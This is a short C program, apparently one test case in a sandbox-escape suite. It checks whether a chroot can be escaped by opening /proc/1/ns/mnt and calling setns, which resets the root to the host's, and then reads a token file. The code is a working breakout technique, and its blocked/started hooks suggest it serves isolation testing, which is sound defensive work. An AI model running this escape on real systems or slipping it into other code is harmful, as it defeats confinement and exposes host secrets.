/*
 * setns-breakout PATH: joining a mount namespace, even the own one, sets the root directory to
 * the root of that namespace (setns(2)). After a mere chroot that is the host's.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <sched.h>

int main(int argc, char **argv)
{
	int fd;

	(void)argc;
	started();
	fd = open("/proc/1/ns/mnt", O_RDONLY);
	if (fd < 0)
		return blocked("open /proc/1/ns/mnt");
	if (setns(fd, CLONE_NEWNS) < 0)
		return blocked("setns");
	return read_token(argv[1]);
}
